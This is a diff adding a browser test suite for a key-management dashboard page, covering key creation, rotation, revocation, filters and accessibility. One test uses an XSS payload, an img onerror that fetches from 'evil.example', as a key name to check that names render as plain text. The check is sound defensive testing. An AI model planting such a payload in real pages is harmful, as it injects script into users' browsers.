@@ -1,0 +1,102 @@
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { accessibilityFaults, browserFile, type Dashboard, startDashboard } from "./browser";
+
+let dashboard: Dashboard;
+const hostile = `<img src=x onerror="fetch("//evil.example")">`;
+
+describe.skipIf(browserFile === undefined)("the page of keys", () => {
+  beforeAll(async () => {
+    dashboard = await startDashboard({ config: { providers: { demo: {} } } });
+    const { headgate } = dashboard;
+    await headgate.admin("POST", "/api/teams", { name: "search" });
+    await headgate.admin("POST", "/api/virtual-keys", { name: "searcher", team: "search", tags: { env: "prod" } });
+    await headgate.admin("POST", "/api/virtual-keys", { name: hostile });
+  });
+  afterAll(async () => {
+    await dashboard?.stop();
+  });
+
+  test("makes a key with limits whose secret works, shown once", async () => {
+    const page = await dashboard.open("/keys");
+    await page.getByRole("button", { name: "Create key" }).click();
+    const dialog = page.getByRole("dialog");
+    await dialog.getByLabel("Name").fill("fresh");
+    await dialog.getByRole("button", { name: "Budget" }).click();
+    await dialog.getByLabel("Amount of limit 1").fill("1,000.50");
+    await dialog.getByRole("button", { name: "Rate limit" }).click();
+    await dialog.getByLabel("Amount of limit 2").fill("60");
+    await dialog.getByRole("button", { name: "Create key" }).click();
+    const secret = (await dialog.getByLabel("secret", { exact: true }).textContent()) ?? "";
+    expect(secret).toStartWith("hg-");
+    const answer = await fetch(`${dashboard.headgate.url}/v1/chat/completions`, {
+      method: "POST",
+      headers: { authorization: `Bearer ${secret}`, "content-type": "application/json" },
+      body: JSON.stringify({ model: "demo/echo", messages: [{ role: "user", content: "Hello" }] }),
+    });
+    expect(answer.status).toBe(200);
+    await dialog.getByRole("button", { name: "Done" }).click();
+    await page.getByText("$1,000.50 a month").last().waitFor();
+    await page.getByText("60 requests a minute").last().waitFor();
+    expect(await page.content()).not.toContain(secret);
+  });
+
+  test("edits, takes the edit back, rotates, and revokes by the name", async () => {
+    await dashboard.headgate.admin("POST", "/api/virtual-keys", { name: "worked-on", models: ["demo/*"] });
+    const page = await dashboard.open("/keys?open=worked-on");
+    await page.getByRole("button", { name: "Edit" }).click();
+    await page.getByLabel("Models", { exact: false }).first().fill("openai/*");
+    await page.getByRole("button", { name: "Save changes" }).click();
+    await page.getByRole("dialog").getByText("openai/*").waitFor();
+    await page.getByRole("button", { name: "Undo" }).click();
+    await page.getByRole("dialog").getByText("demo/*").waitFor();
+    const choose = async (entry: string) => {
+      await page.getByRole("button", { name: "More for worked-on" }).click();
+      await page.getByRole("menuitem", { name: entry }).click();
+    };
+    await choose("Rotate…");
+    await page.getByRole("button", { name: "Rotate key" }).click();
+    await page.getByLabel("secret", { exact: true }).waitFor();
+    await page.getByRole("button", { name: "Done" }).click();
+    await page.getByText("Old secret until").waitFor();
+    await choose("Revoke…");
+    const confirm = page.getByRole("button", { name: "Revoke key" });
+    expect(await confirm.isDisabled()).toBe(true);
+    await page.getByLabel("Type worked-on to confirm").fill("worked-on");
+    await confirm.click();
+    await page.getByRole("dialog").getByText("revoked", { exact: true }).waitFor();
+  });
+
+  test("keeps each filter in the address, and reads it from there", async () => {
+    const page = await dashboard.open("/keys");
+    for (const filter of ["search:searcher", "team:search", "tag:env:prod"]) {
+      await page.getByRole("row", { name: "test" }).waitFor();
+      await page.getByRole("combobox", { name: "Filter" }).fill(filter);
+      await page.keyboard.press("Enter");
+      await page.getByRole("row", { name: "test" }).waitFor({ state: "detached" });
+      expect(new URL(page.url()).searchParams.getAll("f")).toEqual([filter]);
+      await page.reload();
+      await page.getByRole("row", { name: "searcher" }).waitFor();
+      expect(await page.getByRole("row").count()).toBe(2);
+      await page.getByRole("button", { name: "Clear" }).click();
+    }
+  });
+
+  test("shows names as text, whatever they say", async () => {
+    const page = await dashboard.open("/keys");
+    await page.getByText(hostile).click();
+    await page.getByRole("dialog").getByText(hostile).waitFor();
+    expect(await page.locator("img").count()).toBe(0);
+  });
+
+  for (const theme of ["light", "dark"] as const) {
+    test(`is as axe wants it, with a key open, ${theme}`, async () => {
+      const page = await dashboard.open("/keys?open=searcher", { theme });
+      await page.getByText("None of its own").waitFor();
+      expect(await accessibilityFaults(page)).toEqual([]);
+    });
+  }
+
+  test("broke no policy, asked no other host and threw nothing", () => {
+    expect(dashboard.faults()).toEqual([]);
+  });
+});
